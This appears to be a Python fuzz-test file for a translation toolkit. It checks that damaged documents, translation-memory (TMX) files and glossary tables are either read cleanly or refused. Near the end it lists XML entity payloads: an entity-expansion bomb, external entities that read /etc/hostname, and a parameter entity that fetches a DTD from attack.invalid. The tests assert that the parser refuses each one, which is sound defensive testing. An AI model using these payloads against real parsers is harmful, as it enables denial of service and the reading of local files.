"""Any bytes, and damaged files of every kind that is read: an article, units or terms, or an error of ours."""

from __future__ import annotations

import io
import random
import zipfile
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.article.test_docx import STORY
from tests.briefs import brief_of
from tests.fuzz.conftest import tries
from tests.fuzz.texts import ANY, ARTICLES, SENTENCES
from tests.security.corpus import ATTACKS
from toolkit.article import Article, read
from toolkit.errors import FormatError, MemoryStoreError, ReadError
from toolkit.output.formats import render
from toolkit.translate import Glossary, TranslationMemory
from toolkit.translate.tmx import TmxFile

NAMES = st.sampled_from(
    ["story.txt", "story.html", "story.md", "story.pdf", "story.docx", "story", "x.\x00y", "CON.html"]
)
HTML_PIECES = [
    *SENTENCES, *ATTACKS.values(), "<p>", "</p>", "<div class='share'>", "<article>", "</article>", "<h1>", "</h1>", "<a href=x>", "</a>", "<table><tr><td>",
    "<!--", "-->", "<![CDATA[", "]]>", "<style>", "</style>", "<svg>", "&#x202e;", "&#xD83D;", "&#0;", "&nbsp;", "<br>", "<html lang=ar>", "<meta charset=x>",
    "<title>", "</title>", "<template>", "<pre>\n", "<li>", "<textarea>", "<frameset>", "<plaintext>", "<?php", "?>", "<!DOCTYPE html [", "]>", "<p\x00>",
]  # fmt: skip


def check_article(article: Article) -> None:
    assert all(article.text[s.span.start : s.span.end] == s.text for s in article.sentences)
    assert "".join("".join(s.text.split()) for s in article.sentences) == "".join(article.text.split())
    assert repr(article)


def read_or_refused(data: bytes, name: str) -> None:
    try:
        check_article(read(data, name=name))
    except ReadError as error:
        assert error.remedy


@tries(150)
@given(
    data=st.binary(max_size=400),
    name=NAMES,
    head=st.sampled_from(
        [b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\xff\xfe", b"<html>", b"\xef\xbb\xbf", b"\x00\x00\xfe\xff"]
    ),
)
def test_any_bytes_are_read_or_refused(data: bytes, name: str, head: bytes) -> None:
    read_or_refused(head + data, name)


@tries(150)
@given(
    text=ARTICLES,
    name=NAMES,
    encoding=st.sampled_from(["utf-8", "utf-16", "windows-1256", "iso8859-6", "utf-32", "utf-7"]),
)
def test_any_text_in_any_encoding_is_read_or_refused(text: str, name: str, encoding: str) -> None:
    read_or_refused(text.encode(encoding, "replace"), name)


@tries(150)
@given(
    pieces=st.lists(st.one_of(st.sampled_from(HTML_PIECES), ANY), max_size=14), name=st.sampled_from(["a.html", "a.md"])
)
def test_any_markup_is_read_or_refused(pieces: list[str], name: str) -> None:
    read_or_refused("".join(["<html>" if name == "a.html" else "", *pieces]).encode("utf-8", "replace"), name)


def damaged(data: bytes, seed: int, hits: int) -> bytes:
    """`data` with bytes changed, stretches repeated, moved or taken out."""
    luck, made = random.Random(seed), bytearray(data)
    for _ in range(hits):
        at, length = luck.randrange(len(made)), luck.choice((1, 1, 4, 40, 400))
        kind = luck.randrange(4)
        if kind == 0:
            made[at] = luck.randrange(256)
        elif kind == 1:
            del made[at : at + length]
        elif kind == 2:
            made[at:at] = made[luck.randrange(len(made)) :][:length]
        else:
            made[at : at + length] = bytes(luck.randrange(256) for _ in range(min(length, 8)))
        if not made:
            return b""
    return bytes(made)


@cache
def pdf() -> bytes:
    made = render(brief_of(), "pdf")
    assert isinstance(made, bytes)
    return made


@tries(60)
@given(seed=st.integers(0, 2**32), hits=st.integers(1, 30))
def test_a_damaged_pdf_is_read_or_refused(seed: int, hits: int) -> None:
    read_or_refused(damaged(pdf(), seed, hits), "story.pdf")


@cache
def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(STORY)) as package:
        return {name: package.read(name) for name in package.namelist()}


@tries(80)
@given(seed=st.integers(0, 2**32), hits=st.integers(1, 12), which=st.integers(0, 100))
def test_a_document_with_damaged_xml_is_read_or_refused(seed: int, hits: int, which: int) -> None:
    """The damage is inside a part: the archive around it is sound, so that the parsers see it."""
    wanted = sorted(name for name in parts() if name.endswith((".xml", ".rels")))
    broken = wanted[which % len(wanted)]
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        for name, content in parts().items():
            package.writestr(name, damaged(content, seed, hits) if name == broken else content)
    read_or_refused(stream.getvalue(), "story.docx")


@cache
def tmx() -> bytes:
    return str(render(brief_of(), "tmx")).encode()


def units_of(path: Path) -> Any:
    try:
        return TmxFile(path).units
    except FormatError as error:
        assert error.remedy
        return None


@tries(120)
@given(
    seed=st.integers(0, 2**32),
    hits=st.integers(1, 12),
    extra=st.one_of(st.just(""), ANY, st.sampled_from(list(ATTACKS.values()))),
)
def test_a_damaged_tmx_is_imported_whole_or_not_at_all(
    tmp_path_factory: pytest.TempPathFactory, seed: int, hits: int, extra: str
) -> None:
    path = tmp_path_factory.mktemp("tmx") / "units.tmx"
    path.write_bytes(damaged(tmx(), seed, hits) + extra.encode("utf-8", "replace"))
    units = units_of(path)
    with TranslationMemory.open(":memory:") as memory:
        try:
            memory.import_file(path)
        except (FormatError, MemoryStoreError) as error:
            assert error.remedy
            assert len(memory) == 0
        else:
            assert len(memory) <= len(units)
            memory.export_tmx(path.with_name("again.tmx"))
            assert [(u.source, u.target) for u in TmxFile(path.with_name("again.tmx"))] == [
                (u.source, u.target) for u in memory.units()
            ]


DECLARATIONS = {
    "an entity of its own": '<!DOCTYPE tmx [<!ENTITY a "x">]>',
    "a bomb": '<!DOCTYPE tmx [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    "a file": '<!DOCTYPE tmx [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
    "an address": '<!DOCTYPE tmx [<!ENTITY % a SYSTEM "http://attack.invalid/a.dtd"> %a;]>',
    "a parameter": "<!DOCTYPE tmx [<!ENTITY % a \"<!ENTITY b SYSTEM 'file:///etc/hostname'>\"> %a;]>",
}


@pytest.mark.parametrize("what", DECLARATIONS)
def test_entities_of_a_tmx_are_refused(what: str, tmp_path: Path) -> None:
    text = tmx().decode().replace("<tmx ", f"{DECLARATIONS[what]}<tmx ", 1)
    for word in ("الوزير", "&a;", "&c;"):
        path = tmp_path / "units.tmx"
        path.write_text(text.replace("الوزير", word, 1), encoding="utf-8")
        with pytest.raises(FormatError, match="entities"):
            _ = TmxFile(path).units


def test_elements_nested_without_end_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "deep.tmx"
    seg = f"{'<hi>' * 50_000}x{'</hi>' * 50_000}"
    path.write_text(tmx().decode().replace("<seg>", f"<seg>{seg}", 1), encoding="utf-8")
    with pytest.raises(FormatError, match="deep"):
        _ = TmxFile(path).units


@tries(120)
@given(
    rows=st.lists(
        st.lists(
            st.one_of(ANY, st.sampled_from([*SENTENCES, *ATTACKS.values(), "|", "", "ـ", "\u064b", "(", "\\", "a|b"])),
            min_size=1,
            max_size=4,
        ),
        max_size=6,
    ),
    text=ARTICLES,
)
def test_any_table_is_a_glossary_or_refused(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], text: str
) -> None:
    import csv

    path = tmp_path_factory.mktemp("csv") / "terms.csv"
    with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as file:
        csv.writer(file, escapechar="\\").writerows([["arabic", "english", "note", "forbidden"], *rows])
    try:
        glossary = Glossary.open(path)
    except FormatError as error:
        assert error.remedy
        return
    arabic, english = text, " ".join(rows[0]) if rows else text
    for occurrence in glossary.find(arabic):
        assert 0 <= occurrence.span.start < occurrence.span.end <= len(arabic)
    mended = glossary.mend(arabic, english)
    for finding in (*glossary.check(arabic, english), *mended.findings):
        assert all(0 <= s.start <= s.end <= len(arabic) for s in finding.source_spans)
        assert all(
            0 <= s.start <= s.end <= len(mended.text if finding in mended.findings else english)
            for s in finding.target_spans
        )


@tries(60)
@given(data=st.binary(max_size=300))
def test_any_bytes_are_a_table_or_refused(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    path = tmp_path_factory.mktemp("bytes") / "terms.csv"
    path.write_bytes(b"arabic,english\n" + data)
    try:
        Glossary.open(path)
    except FormatError as error:
        assert error.remedy
